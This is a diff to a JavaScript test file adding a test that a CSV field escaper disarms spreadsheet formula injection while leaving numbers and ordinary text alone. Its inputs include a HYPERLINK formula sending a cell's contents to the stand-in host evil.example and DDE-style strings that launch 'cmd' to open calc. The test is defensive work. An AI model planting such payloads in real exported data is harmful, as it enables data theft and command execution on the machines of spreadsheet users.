@@ -32,6 +32,20 @@ describe('csv', () => {
     expect(csvField(undefined)).toBe('""');
   });
 
+  it('disarms a text a spreadsheet would run as a formula, and leaves numbers and other text alone', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"Open")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"');
+    expect(csvField('@SUM(1+1)|cmd')).toBe('"\'@SUM(1+1)|cmd"');
+    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("\"'+1+cmd|' /C calc'!A0\"");
+    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("\"'-2+3+cmd|' /C calc'!A0\"");
+    expect(csvField('\t=1+1')).toBe('"\'\t=1+1"');
+    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    expect(csvField('-12.50')).toBe('"-12.50"');
+    expect(csvField('+3')).toBe('"+3"');
+    expect(csvField(-12.5)).toBe('"-12.5"');
+    expect(csvField('Lone Star = Motors')).toBe('"Lone Star = Motors"');
+    expect(csvField('a@b.example')).toBe('"a@b.example"');
+  });
+
   it('writes the columns as declared: controls left out, a two-value cell as two fields, CRLF records', () => {
     const fields = csvFields(columns);
     expect(csvHeader(fields)).toBe('"ID","Name ""as sold""","Sold","Sold day"\r\n');
